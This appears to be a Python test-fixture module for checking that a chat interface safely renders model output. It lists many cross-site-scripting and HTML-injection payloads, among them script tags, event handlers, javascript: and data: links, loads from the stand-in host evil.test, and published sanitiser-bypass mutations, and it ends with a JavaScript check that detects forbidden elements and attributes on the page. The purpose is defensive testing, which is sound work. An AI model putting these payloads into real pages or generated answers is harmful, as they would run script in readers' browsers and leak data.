"""What a hostile model, or a document that it repeats, may say.

Each would call `ran()`, or load something of `evil.test`, if a page let it.
"""

# ruff: noqa: E501

from __future__ import annotations

_URL = "https://evil.test"

SCRIPTS = [
    "<script>ran()</script>",
    f"<script src={_URL}/a.js></script>",
    "<ScRiPt\n>ran()</sCrIpT\n>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<script>ran()",
    f'<script type="module">import "{_URL}/b.js"</script>',
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<template><script>ran()</script><img src=x onerror=ran()></template>",
    "<div><template shadowrootmode=open><script>ran()</script></template></div>",
    f'<meta http-equiv="refresh" content="0;url={_URL}/">',
    f'<base href="{_URL}/"><a href="x">x</a>',
    f'<link rel=stylesheet href="{_URL}/c.css"><link rel=prefetch href="{_URL}/d">',
]
HANDLERS = [
    "<img src=x onerror=ran()>",
    "<img/src=x/onerror=ran()>",
    '<img src="x`" `<script>ran()</script>"` `>',
    "<body onload=ran()>",
    "<svg onload=ran()>",
    "<svg/onload=ran()//",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()><summary>a</summary></details>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>a</marquee>",
    "<div style='animation-name:x' onanimationstart=ran()>a</div>",
    "<select autofocus onfocus=ran()><option>a</select>",
    "<b onmouseover=ran() autofocus tabindex=0 onfocus=ran()>a</b>",
    "<a href=https://a.b onclick=ran() id=x>a</a>",
    "<table background=https://evil.test/e><tr><td onclick=ran()>a</td></tr></table>",
]
LINKS = [
    "[a](javascript:ran())",
    "[a](JaVaScRiPt:ran())",
    "[a](java\tscript:ran())",
    "[a](<java\nscript:ran()>)",
    "[a](&#106;avascript:ran())",
    "[a](&#x6A;&#x61;vascript&colon;ran())",
    "[a](\x01javascript:ran())",
    "[a](<  javascript:ran()>)",
    "[a](javascript&#58;ran())",
    "[a](vbscript:ran())",
    "[a](data:text/html,<script>ran()</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[a](blob:https://evil.test/x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.test/x)",
    '[a](https://a.b "x\\" onmouseover=ran() x=\\"")',
    "[a][b]\n\n[b]: javascript:ran()",
    "[a][b]\n\n[b]: https://a.b '\"><img src=x onerror=ran()>'",
    "<javascript:ran()>",
    "<a href='javascript:ran()'>a</a>",
    "<a href='https://a.b' target=_self ping='https://evil.test/p'>a</a>",
    "<a xlink:href='javascript:ran()'>a</a>",
]
PICTURES = [
    f"![a]({_URL}/f.png)",
    '![a](x"onerror="ran())',
    "![a](javascript:ran())",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cmFuKCk+)",
    f"![![a]({_URL}/g.png)]({_URL}/h.png)",
    f"<img src={_URL}/i.png>",
    f"<picture><source srcset={_URL}/j><img src=x></picture>",
    f"<p style='background:url({_URL}/k)'>a</p>",
    f"<style>@import '{_URL}/l.css'; body {{ background: url({_URL}/m) }}</style>",
    f"<video poster={_URL}/n.png></video>",
    f"<object data={_URL}/o></object><embed src={_URL}/p>",
    f"<iframe src={_URL}/q></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    f"<form action={_URL}/r><input name=a><button>a</button></form>",
    f"<svg><image href={_URL}/s /><use href={_URL}/t#a /></svg>",
]
MUTATIONS = [
    # Published bypasses of DOMPurify and of other sanitisers, as they were reported.
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
    "<svg><style><img src=x onerror=ran()></style></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=ran()></style></annotation-xml></math>",
    "<math></p><style><!--</style><img src/onerror=ran()>--></style></math>",
    '<math><mi//xlink:href="data:x,<script>ran()</script>">',
    "<svg><foreignObject><p><iframe srcdoc='<img src=x onerror=parent.ran()>'></p></foreignObject></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:ran() /><a id=x><text>a</text></a></svg>",
    "<svg><set attributeName=onmouseover to=ran() /></svg>",
    "<svg><script>ran()</script></svg>",
    "<noembed><img title='</noembed><img src=x onerror=ran()>'></noembed>",
    "<xmp><img title='</xmp><img src=x onerror=ran()>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=ran()>'></textarea>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=ran()>">',
    "<div id=attributes></div><form id=f><input name=attributes><input name=nodeName></form>",
    '<!--<img src="--><img src=x onerror=ran()//">',
    "<!-- --!><img src=x onerror=ran()> -->",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    "<?xml version=1?><img src=x onerror=ran()>?>",
    "<!DOCTYPE html [<!ENTITY a '<img src=x onerror=ran()>'>]>&a;",
    "<p>" + "<div>" * 300 + "<math><mtext><style><img src=x onerror=ran()></style>",
]
MARKDOWN = [
    "```<img src=x onerror=ran()>\ncode\n```",
    '```html" onmouseover="ran()\n<script>ran()</script>\n```',
    "~~~ </code></pre><script>ran()</script>\n</code></pre><script>ran()</script>\n~~~",
    "`<img src=x onerror=ran()>`",
    "| <img src=x onerror=ran()> | [a](javascript:ran()) |\n|---|---|\n| <script>ran()</script> | ![a](https://evil.test/u) |",
    "- <img src=x onerror=ran()>\n  > <script>ran()</script>\n\n1. <svg onload=ran()>",
    "# <img src=x onerror=ran()>\n\n<img src=x onerror=ran()>\n===",
    "<b><i><img src=x onerror=ran()></b></i>",
    "<sub onclick=ran()>a</sub>",
    "&lt;script&gt;ran()&lt;/script&gt; &#60;img src=x onerror=ran()&#62;",
    "**<img src=x onerror=ran()>** ~~<script>ran()</script>~~",
    "[<img src=x onerror=ran()>](https://a.b)",
    'https://a.b/<script>ran()</script> www.a.b/"onclick=ran()',
    '<https://a.b/"onmouseover="ran()>',
    "[a]: https://a.b/<img%20src=x%20onerror=ran()>\n\n[a]",
    "\\<img src=x onerror=ran()\\>",
    "<img src=x onerror\u2028=ran()> <img src=x\x0conerror=ran()>",
]
FORMULAS = [
    r"$\href{javascript:ran()}{a}$ $\url{javascript:ran()}$",
    r"$\htmlData{x=</span><img src=x onerror=ran()>}{a}$ $\htmlId{a}{b}$ $\htmlClass{a}{b}$",
    r"$\htmlStyle{background:url(https://evil.test/v)}{a}$",
    r"$\includegraphics{https://evil.test/w.png}$",
    r"$\text{<img src=x onerror=ran()>} \unknown<script>ran()</script>$",
    "$$\n\\def\\a{\\a\\a}\\a <img src=x onerror=ran()>\n$$",
    r"\[ </math><script>ran()</script> \] \( \color{red;}a \) $\fcolorbox{red}{blue}{a}$",
    r"$\rule{9999em}{9999em}$ $\kern9999em a$",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *LINKS, *PICTURES, *MUTATIONS, *MARKDOWN, *FORMULAS]

HARM = """() => {
    const harm = [];
    const forbidden = "script, iframe, object, embed, form:not(.composer, .call-results, .developer form), " +
        "style, link:not(head link), meta:not(head meta), base, template, img, picture, video, audio, source, " +
        "frame, frameset, marquee, portal, annotation-xml, mglyph, foreignObject, animate, image, use";
    for (const each of document.body.querySelectorAll(forbidden)) harm.push(each.outerHTML);
    for (const each of document.body.querySelectorAll("*")) {
        for (const { name, value } of each.attributes) {
            if (/^on|^style$|^srcdoc$|^src$|^action$|^ping$|^xlink:|^background$/i.test(name)) {
                harm.push(`${each.nodeName} ${name}=${value}`);
            }
        }
    }
    const inside = document.querySelectorAll(".markdown a[href], .answer a[href]");
    for (const { protocol, target, rel, href } of inside) {
        if (!["https:", "http:", "mailto:"].includes(protocol)) harm.push(href);
        if (target !== "_blank" || rel !== "noopener noreferrer") harm.push(`${href} ${target} ${rel}`);
    }
    for (const each of document.querySelectorAll(".markdown input, .markdown svg, .markdown [id], .markdown [name]")) {
        harm.push(each.outerHTML);
    }
    return harm;
}"""
"""A function of the page: what is in it that no answer may put there."""
